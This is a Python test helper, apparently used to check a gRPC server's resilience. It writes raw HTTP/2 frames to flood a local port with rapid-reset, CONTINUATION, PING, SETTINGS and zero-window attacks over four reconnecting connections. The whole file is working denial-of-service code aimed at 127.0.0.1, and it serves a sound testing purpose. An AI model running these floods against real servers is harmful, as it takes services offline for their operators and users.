"""A client that floods a gRPC port over raw sockets: frames of HTTP/2 written by hand.

`python -m tests.serving.http2_flood KIND PORT PATH` floods over 4 connections until it is ended,
and connects again when it is hung up on. It prints a line for each connection that was closed.
"""

import socket
import struct
import sys
import threading
from collections.abc import Iterator
from itertools import count

CONNECTIONS = 4
DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW = 4
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_BURST = 100  # streams or frames in one write


def frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    """Return a frame."""
    return struct.pack(">I", len(content))[1:] + struct.pack(">BBI", kind, flags, stream) + content


def headers(path: str) -> bytes:
    """Return the header block of a gRPC call: literals without indexing and Huffman coding."""
    pairs = {
        ":method": "POST", ":scheme": "http", ":path": path, ":authority": "localhost",
        "te": "trailers", "content-type": "application/grpc",
    }  # fmt: skip
    return b"".join(
        b"\0" + b"".join(bytes([len(text)]) + text.encode() for text in pair)
        for pair in pairs.items()
    )


def called(stream: int, block: bytes, message: bytes) -> bytes:
    """Return the frames of a whole call."""
    body = struct.pack(">BI", 0, len(message)) + message
    return frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, body)


def bursts(kind: str, path: str, message: bytes) -> Iterator[bytes]:
    """Yield what a flood writes after the preface, without end."""
    block = headers(path)
    window = struct.pack(">HI", INITIAL_WINDOW, 0 if kind == "zero window" else 1 << 20)
    yield frame(SETTINGS, 0, 0, window)
    streams = count(1, 2)
    if kind == "continuation":
        yield frame(HEADERS, 0, 1, block)
        while True:
            yield frame(CONTINUATION, 0, 1, b"\0\1a\1b" * 10) * _BURST
    while True:
        if kind == "rapid reset":
            yield b"".join(
                frame(HEADERS, END_HEADERS, number, block)
                + frame(RESET, 0, number, struct.pack(">I", 8))
                for number, _ in zip(streams, range(_BURST), strict=False)
            )
        elif kind == "zero window":
            yield called(next(streams), block, message)
        elif kind == "ping":
            yield frame(PING, 0, 0, bytes(8)) * _BURST
        elif kind == "settings":
            yield frame(SETTINGS, 0, 0) * _BURST
        else:
            raise ValueError(kind)


def flood(kind: str, port: int, path: str, message: bytes) -> None:
    """Flood over one connection after the other; print why each was closed."""
    while True:
        sent = 0
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=60) as connection:
                threading.Thread(target=_read, args=(connection,), daemon=True).start()
                connection.sendall(_PREFACE)
                for burst in bursts(kind, path, message):
                    connection.sendall(burst)
                    sent += len(burst)
        except OSError as error:
            print(f"closed after {sent} bytes: {error}", flush=True)


def _read(connection: socket.socket) -> None:
    try:
        while connection.recv(1 << 16):
            pass
    except OSError:
        pass


def main(kind: str, port: str, path: str, message: str) -> None:
    """Flood until the process is ended."""
    arguments = (kind, int(port), path, bytes.fromhex(message))
    for _ in range(CONNECTIONS - 1):
        threading.Thread(target=flood, args=arguments, daemon=True).start()
    flood(*arguments)


if __name__ == "__main__":
    main(*sys.argv[1:])
